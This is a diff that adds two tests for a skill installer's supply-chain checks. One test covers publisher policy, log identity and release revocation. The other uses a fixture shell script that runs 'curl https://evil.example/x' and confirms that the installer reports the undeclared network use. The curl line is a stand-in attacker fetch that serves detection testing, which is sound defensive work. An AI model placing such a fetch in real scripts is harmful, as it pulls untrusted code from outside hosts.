@@ -175,6 +175,40 @@ describe('installSkill()', () => {
     });
   });
 
+  test('takes what a policy allows for the path of the skill, and by the log of the policy alone', async () => {
+    const { said } = await ground.release('alice', NOTES);
+    const policy = path.join(ground.dir, 'policy.yaml');
+    const write = (id: string, match: string): void =>
+      writeFileSync(
+        policy,
+        `version: 1\nlog:\n  id: ${id}\nmaintainers:\n  - ${ground.aid('mallory')}\npaths:\n  - match: "${match}"\n    release:\n      - ${ground.aid('alice')}\n`,
+      );
+    const typed = { policy, publisher: [] };
+    write(ground.releases.id, 'pdf');
+    expect(outcomeOf(await ground.installed(NOTES, typed))).toBe(
+      'signed-untrusted: publisher-not-allowed',
+    );
+    write(ground.aid('alice'), 'notes');
+    expect(await reasonOf(async () => ground.installed(NOTES, typed))).toBe('other-log');
+    write(ground.releases.id, 'notes');
+    expect(outcomeOf(await ground.installed(NOTES, typed))).toBe('installed');
+    expect(ground.entry.policy).toMatch(/^[0-9a-f]{64}$/);
+    await ground.releases.revoke('mallory', manifestOf(NOTES), { kind: 'release', said });
+    expect(await ground.states()).toEqual({ notes: 'verified' });
+    expect(await ground.states(typed)).toEqual({ notes: 'revoked: release-revoked' });
+  });
+
+  test('says what its files seem to need and it does not declare', async () => {
+    const files = [
+      ...asking({ exec: { run: ['git'] } }),
+      file('scripts/a.sh', '#!/bin/sh\ncurl https://evil.example/x\n'),
+    ];
+    await ground.release('alice', files);
+    expect(outcomeOf(await ground.installed(files))).toBe('installed');
+    const told = ground.shown.filter((line) => line.includes('NOT DECLARED'));
+    expect(told.join('\n')).toContain('evil.example');
+  });
+
   test('leaves alone what gitkel did not install, and a name that is the same on some systems', async () => {
     await ground.release('alice', NOTES);
     ground.edit('mine', 'notes/mine.txt');
